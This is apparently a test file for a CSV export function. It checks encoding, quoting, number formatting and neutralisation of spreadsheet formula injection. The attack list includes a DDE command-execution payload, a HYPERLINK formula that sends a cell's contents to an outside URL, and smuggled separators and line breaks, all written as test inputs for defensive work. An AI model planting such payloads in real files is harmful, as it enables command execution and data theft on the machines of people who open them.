import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { harmless, toCsv } from '#kernel/csv.ts'

test('a download starts with a byte order mark and ends its lines as RFC 4180 asks', () => {
  assert.equal(toCsv(['Name', 'Events'], [['Zoë', 3]]), '\uFEFF"Name","Events"\r\n"Zoë",3\r\n')
})

test('commas, quotes and line breaks in a cell come back as they went in', () => {
  const cell = 'A "quoted", word;\r\nand a second line'
  assert.deepEqual(parse(toCsv(['Note'], [[cell]]), { bom: true }), [['Note'], [cell]])
})

test('text that would run as a formula is made harmless', () => {
  const attacks = [
    "=cmd|' /C calc'!A0",
    '+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '   \u00A0\t@SUM(A1)',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' ＝1+1',
    '=HYPERLINK("https://example.org?"&A1,"Click")',
  ]
  for (const attack of attacks) {
    const [, row] = parse(toCsv(['Text'], [[attack]]), { bom: true }) as string[][]
    assert.equal(row![0], `'${attack}`)
  }
})

test('a formula cannot start a cell by way of a line break or a separator inside another cell', () => {
  for (const attack of ['ok\r\n=1+1', 'ok"\r\n"=1+1', 'ok",=1+1', 'ok;=1+1', 'ok"";"=1+1']) {
    const csv = toCsv(['Text', 'Next'], [[attack, 'end']])
    assert.deepEqual((parse(csv, { bom: true }) as string[][])[1], [attack, 'end'])
    assert.ok(csv.includes(`"${attack.replaceAll('"', '""')}"`), 'the whole cell is inside quotes')
  }
})

test('headings are made harmless too', () => {
  assert.ok(toCsv(['=1+1'], []).includes(`"'=1+1"`))
})

test('ordinary text is left alone', () => {
  for (const text of [
    'Ann-Marie',
    'ann@example.gov.uk',
    'a = b',
    '3 + 4',
    '',
    ' ',
    'Ünal',
    '100%',
  ]) {
    assert.equal(harmless(text), text)
  }
})

test('numbers stay numbers, even below nought', () => {
  const csv = toCsv(['n'], [[-5], [0.25], [12345678901234567890n], [Number.NaN]])
  assert.equal(csv, '\uFEFF"n"\r\n-5\r\n0.25\r\n12345678901234567890\r\n\r\n')
})

test('yes, no and nothing are words a person can read', () => {
  assert.equal(
    toCsv(['a', 'b', 'c', 'd'], [[true, false, null, undefined]]).split('\r\n')[1],
    'Yes,No,,',
  )
})
